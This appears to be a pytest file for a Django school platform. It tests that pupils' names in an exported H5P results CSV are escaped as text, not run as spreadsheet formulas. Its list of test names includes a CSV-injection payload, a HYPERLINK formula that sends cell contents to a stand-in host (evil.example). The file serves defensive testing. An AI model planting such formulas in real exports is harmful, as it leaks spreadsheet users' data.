"""A pupil's name in the results CSV reaches the spreadsheet as text, never as a formula."""

import csv
import io
import json

import pytest
from django.urls import reverse

from tests.factories import PupilFactory
from tests.h5p.statements import statement, token_headers

HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Klik")', "+1", "@SUM(A1)", "-2+3"]


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_formula_for_a_name_is_written_as_text(client, teacher, school_class, content, name):
    pupil = PupilFactory(first_name=name, initial="")
    school_class.pupils.add(pupil)
    client.force_login(pupil)
    client.post(
        reverse("h5p:xapi", args=[content.pk]),
        json.dumps(statement(content, raw=3, maximum=4)),
        content_type="application/json",
        headers=token_headers(pupil, content),
    )
    client.force_login(teacher)
    response = client.get(reverse("h5p:results_csv", args=[content.pk, school_class.pk]))
    assert response.status_code == 200
    row = next(row for row in csv_rows(response) if row[0].endswith(name))
    assert row == [f"'{name}", "1", "3/4", "3/4", "75", "ja"]


def test_ordinary_names_and_numbers_are_unchanged(client, teacher, pupils, school_class, content):
    client.force_login(teacher)
    rows = csv_rows(client.get(reverse("h5p:results_csv", args=[content.pk, school_class.pk])))
    names = {row[0] for row in rows[1:]}
    assert names == {pupil.display_name for pupil in pupils}
    assert all(row[1] == "0" for row in rows[1:])
